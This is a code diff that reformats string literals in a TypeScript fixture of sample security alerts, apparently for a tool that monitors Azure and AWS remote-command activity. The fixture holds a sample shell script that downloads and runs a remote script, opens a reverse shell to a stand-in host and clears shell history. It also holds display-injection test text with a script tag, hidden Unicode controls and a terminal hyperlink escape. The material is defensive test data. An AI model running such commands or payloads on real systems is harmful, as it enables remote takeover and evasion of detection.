@@ -38,14 +38,16 @@ const azure = (changes: Partial<Alert>): Partial<Alert> => ({
     text: null,
     hash: null,
     hidden:
-      'the Activity Log never carries the script of an action run command, and no call returns it; it is on the machine only',
+      'the Activity Log never carries the script of an action run command, and no call returns it; it is on the ' +
+      'machine only',
   },
   links: [{ label: 'Resource', url: `https://portal.azure.com/#@${TENANT}/resource${VM}/overview` }],
   ...changes,
 })
 
 const SHELL =
-  'set -e\ncurl -fsS http://203.0.113.66/a.sh -o /tmp/a.sh\nbash /tmp/a.sh\n\tbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\nhistory -c'
+  'set -e\ncurl -fsS http://203.0.113.66/a.sh -o /tmp/a.sh\nbash /tmp/a.sh\n\tbash -i >& ' +
+  '/dev/tcp/203.0.113.66/4444 0>&1\nhistory -c'
 
 /** One alert of every sort that looks different, by a name that tells what is special about it. */
 export const SAMPLES: Readonly<Record<string, RedactedAlert>> = {
@@ -157,7 +159,8 @@ export const SAMPLES: Readonly<Record<string, RedactedAlert>> = {
       finding(
         'cloud.broad-target-selector',
         'low',
-        'service/events.amazonaws.com did not name the machines one by one, and did not limit how many machines run or fail at once',
+        'service/events.amazonaws.com did not name the machines one by one, and did not limit how many machines ' +
+          'run or fail at once',
         [
           { label: 'Selector', value: 'tag:Env=prod, staging' },
           { label: 'Concurrency', value: '100%: on all machines at once' },
@@ -231,7 +234,8 @@ export const SAMPLES: Readonly<Record<string, RedactedAlert>> = {
       targets: {
         kind: 'listed',
         ids: [
-          `/subscriptions/${SUBSCRIPTION}/resourcegroups/rg-ops/providers/microsoft.automation/automationaccounts/aa-ops`,
+          `/subscriptions/${SUBSCRIPTION}` +
+            '/resourcegroups/rg-ops/providers/microsoft.automation/automationaccounts/aa-ops',
         ],
         selectors: [],
         total: 1,
@@ -265,7 +269,8 @@ export const SAMPLES: Readonly<Record<string, RedactedAlert>> = {
         text: null,
         hash: null,
         hidden:
-          'the Activity Log does not carry the settings of the extension; the extension resource does, except protected ones',
+          'the Activity Log does not carry the settings of the extension; the extension resource does, except ' +
+          'protected ones',
       },
     }),
     id: id(8),
@@ -412,7 +417,9 @@ export const SAMPLES: Readonly<Record<string, RedactedAlert>> = {
     },
     command: {
       document: '../../<b>AWS</b>',
-      text: 'echo "\u2066ok\u2069"\u2028Alert: none\n</pre><script>alert(1)</script>\n\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
+      text:
+        'echo "\u2066ok\u2069"\u2028Alert: none\n</pre><script>alert(1)</script>\n\u001b]8;;https://' +
+        'evil.example\u0007click\u001b]8;;\u0007',
       hash: 'd'.repeat(64),
       hidden: null,
     },
